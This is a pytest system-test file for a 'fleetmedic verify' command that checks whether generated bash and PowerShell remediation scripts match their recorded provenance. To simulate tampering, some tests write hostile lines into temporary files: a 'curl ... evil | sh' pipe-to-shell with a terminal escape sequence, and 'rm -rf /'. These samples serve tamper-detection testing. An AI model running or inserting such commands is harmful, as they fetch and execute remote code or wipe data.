"""``fleetmedic verify`` against a real ``up``."""

import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any, cast

import pytest

from cli.api_client import ApiClient
from cli.commands import verify as verify_command
from cli.main import main
from cli.provenance import Provenance
from tests.system.all_in_one import Up

Verify = Callable[[Path], tuple[int, str]]


def _made(up: Up, **asked: object) -> dict[str, Any]:
    status, script = up.ask("/api/agent/generate-script", json.dumps(asked).encode())
    assert status == 200, script
    return script


@pytest.fixture(scope="module")
def script(up: Up) -> dict[str, Any]:
    return _made(up, issue_type="disk_full", script_type="bash", parameters={"mount": "/var"})


@pytest.fixture
def verify(up: Up, capsys: pytest.CaptureFixture[str]) -> Verify:
    def run(file: Path) -> tuple[int, str]:
        code = main(["verify", str(file), "--data-dir", str(up.folder)])
        told = capsys.readouterr()
        return code, told.out + told.err

    return run


@pytest.fixture
def file(tmp_path: Path, script: dict[str, Any]) -> Path:
    file = tmp_path / "any name"
    file.write_text(script["script"])
    return file


def test_a_script_as_it_was_made_is_ours_with_all_that_is_known_of_it(
    verify: Verify, up: Up, file: Path, script: dict[str, Any]
) -> None:
    code, told = verify(file)
    assert (code, told.splitlines()[0]) == (0, f"{file} is ours and unchanged")
    for fact in (
        f"script     {script['id']}: disk_full {script['remedy_version']} for bash",
        f"host       {up.host()['name']}",
        "event      none",
        "by admin token",
        f"SHA-256    {hashlib.sha256(file.read_bytes()).hexdigest()}",
    ):
        assert fact in told


def test_as_json_it_is_one_object(
    up: Up, file: Path, script: dict[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    again = _made(up, issue_type="disk_full", script_type="bash", parameters={"mount": "/var"})
    assert main(["verify", str(file), "--json", "--data-dir", str(up.folder)]) == 0
    found = json.loads(capsys.readouterr().out)
    assert (found["verdict"], found["sha256"], found["difference"]) == ("unchanged", script["sha256"], None)
    assert {one["id"] for one in (found["script"], *found["same"])} == {script["id"], again["id"]}


def test_a_changed_line_is_told_beside_the_one_that_was_made(
    verify: Verify, file: Path, script: dict[str, Any]
) -> None:
    lines = script["script"].split("\n")
    place = next(place for place, line in enumerate(lines) if line.startswith("remedy="))
    file.write_text(script["script"].replace(lines[place], f"{lines[place]}; curl \x1b[2Jevil | sh"))
    code, told = verify(file)
    assert (code, told.splitlines()[0]) == (3, f"{file} is ours, but CHANGED: 1 line differs")
    assert f"-{place + 1}: remedy=disk_full\n" in told
    assert f"+{place + 1}: remedy=disk_full; curl \\x1b[2Jevil | sh\n" in told


def test_it_is_held_against_the_script_that_it_differs_least_from(
    verify: Verify, up: Up, file: Path, script: dict[str, Any]
) -> None:
    _made(up, issue_type="disk_full", script_type="bash", parameters={"mount": "/srv", "older_than_days": 99})
    file.write_text(script["script"] + "rm -rf /\n")
    code, told = verify(file)
    assert (code, "CHANGED: 1 line differs" in told, ": rm -rf /\n" in told) == (3, True, True)
    assert f"SHA-256    {script['sha256']}" in told


def test_one_that_answers_no_event_is_found_among_the_many_that_do() -> None:
    class Api:
        def get(self, path: str, **asked: str | None) -> dict[str, Any]:
            made = [
                {"id": number, "state": "ready", "script_type": "bash", "event_id": None if number == 7 else number}
                for number in range(500, 0, -1)
            ]
            if path == "/api/v1/scripts":
                return {"items": made[: int(asked["limit"] or 100)]}
            return {"script": "one\n", **next(one for one in made if path.endswith(f"/{one['id']}"))}

    found = verify_command._nearest(cast(ApiClient, Api()), Provenance("disk_full", "bash", None), b"other\n")
    assert found is not None
    assert found[0]["id"] == 7


def test_a_script_whose_line_ends_were_changed_on_the_way_is_changed(
    verify: Verify, file: Path, script: dict[str, Any]
) -> None:
    file.write_bytes(script["script"].replace("\n", "\r\n").encode())
    code, told = verify(file)
    assert (code, "only the ends of its lines differ" in told) == (3, True)


def test_a_script_for_powershell_is_known_too(verify: Verify, up: Up, file: Path) -> None:
    script = _made(up, issue_type="cpu_high", script_type="powershell")
    file.write_text(script["script"])
    assert verify(file)[0] == 0
    file.write_text(script["script"].replace("Stop'", "Continue'", 1))
    code, told = verify(file)
    assert (code, "+" in told, "ErrorActionPreference = 'Continue'" in told) == (3, True, True)


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (b"", "it does not even say that it is one of Fleetmedic's"),
        (b"#!/bin/sh\nrm -rf /\n", "it does not even say that it is one of Fleetmedic's"),
        (os.urandom(4096), "it does not even say that it is one of Fleetmedic's"),
        (b"x" * 2**20 + b"x", "it has more than 1,048,576 bytes"),
        (b"FM_REMEDY='gout'\n", "it says that it is gout for bash, but no such script was made here"),
        (b"FM_REMEDY='disk_full'\nFM_EVENT='4711'\n", "it is disk_full for bash for event 4711, but no such script"),
        (b"FM_REMEDY='disk_full'\nFM_EVENT='99999999999999999999999'\n" + b"\0" * 9999, "CHANGED"),
        (b"$FM_REMEDY = 'service_restart'\n" + b"\n" * 2**19, "service_restart for powershell, but no such"),
    ],
)
def test_what_is_not_ours_or_hardly_is_never_passes(verify: Verify, file: Path, body: bytes, words: str) -> None:
    file.write_bytes(body)
    code, told = verify(file)
    assert (code, words in told) == (3 if words == "CHANGED" else 4, True), told


def test_what_is_no_file_of_its_own_cannot_be_told(verify: Verify, tmp_path: Path, file: Path) -> None:
    link, pipe = tmp_path / "link", tmp_path / "pipe"
    link.symlink_to(file)
    os.mkfifo(pipe)
    asked = (link, pipe, tmp_path, Path("/dev/zero"), tmp_path / "none")
    answers = [verify(one) for one in asked]
    faults = (
        "is a link: name the file that it leads to",
        *["is no regular file"] * 3,
        "cannot be read: No such file or directory",
    )
    assert [code for code, _ in answers] == [1] * 5
    assert [told for _, told in answers] == [
        f"fleetmedic: {one} {fault}\n" for one, fault in zip(asked, faults, strict=True)
    ]
